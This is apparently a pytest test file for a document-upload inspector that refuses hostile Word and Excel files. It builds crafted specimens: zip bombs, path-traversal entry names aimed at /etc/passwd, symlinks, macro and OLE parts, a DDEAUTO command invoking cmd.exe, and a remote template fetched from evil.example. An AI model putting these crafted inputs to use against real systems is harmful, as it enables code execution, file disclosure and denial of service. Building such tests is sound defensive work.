"""Hostile Word and Excel files are refused before they unpack into anything."""

import io
import random
import resource
import time
import zipfile

import pytest

from motcua.core.refusals import Invalid
from motcua.documents.inspection import inspect, policy
from motcua.documents.tests import specimens
from motcua.documents.tests.specimens import docx, xlsx


def refused(content: bytes, name: str = "đơn.docx") -> str:
    begun = time.process_time()
    with pytest.raises(Invalid) as refusal:
        inspect(io.BytesIO(content), name, policy.Policy(max_bytes=30_000_000))
    assert time.process_time() - begun < 1.5
    return refusal.value.message


def test_an_archive_that_unpacks_to_much_is_refused_before_it_does() -> None:
    bomb = docx({"word/media/a.xml": bytes(150_000_000)})
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert "bung ra quá lớn" in refused(bomb)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 20_000


def test_many_entries_of_lawful_size_do_not_add_up_to_a_bomb() -> None:
    rare = random.Random(1)
    noise = b"".join(rare.randbytes(80) + bytes(3920) for _ in range(3000))
    assert "bung ra quá lớn" in refused(docx({f"word/{n}.bin": noise for n in range(18)}))


def test_a_directory_that_lies_about_sizes_is_refused() -> None:
    honest = docx({"word/media/a.xml": bytes(10_000_000)})
    lie = bytearray(honest)
    entry = honest.rindex(b"PK\x01\x02")
    lie[entry + 24 : entry + 28] = (1000).to_bytes(4, "little")
    assert "bị hỏng" in refused(bytes(lie))


def test_entries_that_share_bytes_are_refused() -> None:
    noise = bytes(range(256)) * 2000
    whole = docx({"word/a.xml": noise, "word/b.xml": noise})
    first, second = (
        whole.index(b"PK\x03\x04", whole.index(b"word/%c.xml" % n) - 40) for n in b"ab"
    )
    shared = bytearray(whole)
    directory = whole.rindex(b"PK\x01\x02")
    assert whole[directory + 42 : directory + 46] == second.to_bytes(4, "little")
    shared[directory + 42 : directory + 46] = first.to_bytes(4, "little")
    assert "quá lớn" in refused(bytes(shared))


def test_an_archive_of_very_many_entries_is_refused_unopened() -> None:
    many = docx({f"word/{number}.xml": b"" for number in range(60_000)})
    assert "bung ra quá lớn" in refused(many)


@pytest.mark.parametrize(
    "nested",
    [
        specimens.archive({"a": b"x"}),
        b"Rar!\x1a\x07\x01\x00",
        b"7z\xbc\xaf\x27\x1c\x00",
        b"\x1f\x8b\x08\x00",
    ],
)
def test_an_archive_in_an_archive_is_refused(nested: bytes) -> None:
    assert "tệp nén khác" in refused(docx({"word/embeddings/a.bin": nested}))


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "/etc/passwd", "word\\..\\..\\a", "C:/a", "word/a\x07.xml", "a/../../b"],
)
def test_an_entry_that_would_leave_its_folder_is_refused(name: str) -> None:
    assert "bị hỏng" in refused(docx({name: b"x"}))


def test_a_symbolic_link_or_a_name_used_twice_is_refused() -> None:
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as target:
        target.writestr(link, "/etc/passwd")
    assert "bị hỏng" in refused(out.getvalue())
    assert "bị hỏng" in refused(docx({"WORD/document.xml": b"<other/>"}))


@pytest.mark.parametrize(
    "hostile",
    [
        docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        docx({"word/VBAPROJECT.BIN": b"anything"}),
        docx(content_type=specimens.MACRO_WORD),
        docx({"word/activeX/activeX1.xml": b"<a/>"}),
        docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99)}),
        docx({"word/media/a.png": b"MZ\x90\x00"}),
        docx({"word/media/a.png": b"\x7fELF"}),
        docx({"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        docx({"word/document.xml": b"<w:instrText> DDEAUTO c:\\windows\\cmd.exe</w:instrText>"}),
        xlsx({"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"}),
        xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"}),
    ],
)
def test_an_office_file_that_can_run_something_is_refused(hostile: bytes) -> None:
    name = "bảng.xlsx" if b"xl/workbook.xml" in hostile else "đơn.docx"
    assert "macro hoặc đối tượng nhúng" in refused(hostile, name)


def test_a_command_split_over_two_pieces_is_still_seen() -> None:
    letters = random.Random(1).choices(range(0x61, 0x7B), k=300_000)
    text = bytes(letters[: 256 * 1024 - 9]) + b"<w:instrText>DDEAUTO " + bytes(letters)
    assert "macro" in refused(docx({"word/document.xml": text}))


def test_a_document_that_fetches_its_template_from_elsewhere_is_refused() -> None:
    table = (
        b'<Relationships><Relationship Id="r1" TargetMode="External" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/%s" Target="https://evil.example"/>'
        b"</Relationships>"
    )
    place = "word/_rels/settings.xml.rels"
    assert "từ nơi khác" in refused(docx({place: table % b"attachedTemplate"}))
    inspect(io.BytesIO(docx({place: table % b"hyperlink"})), "a.docx", policy.Policy())


def test_text_about_dde_is_no_command() -> None:
    text = "<w:t>Dư lượng DDE trong đất; hàm DDEAUTO của Word</w:t>".encode()
    inspect(io.BytesIO(docx({"word/document.xml": text})), "a.docx", policy.Policy())


def test_xml_in_another_alphabet_does_not_slip_past() -> None:
    text = '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")
    assert "bị hỏng" in refused(docx({"word/document.xml": text}))


@pytest.mark.parametrize(
    "broken",
    [
        docx()[:-1],
        docx()[:200],
        docx() + b"x",
        b"PK\x03\x04" + b"junk" + docx(),
        docx().replace(b"PK\x01\x02", b"PK\x01\x09"),
        docx()[:-22] + b"x" * 9 + docx()[-22:],
    ],
)
def test_an_archive_cut_or_stuffed_is_refused(broken: bytes) -> None:
    assert "bị hỏng" in refused(broken) or "không phải Word" in refused(broken)


def test_a_locked_entry_is_refused_with_what_to_do() -> None:
    locked = bytearray(docx())
    locked[locked.rindex(b"PK\x01\x02") + 8] |= 1
    assert "bỏ mật khẩu" in refused(bytes(locked))


def test_a_word_file_that_is_a_pdf_too_is_refused() -> None:
    both = specimens.archive(
        {"%PDF-1.7": b"%PDF-1.7", **{"[Content_Types].xml": b"", "word/document.xml": b""}},
        zipfile.ZIP_STORED,
    )
    assert "giấu một tệp khác" in refused(both)
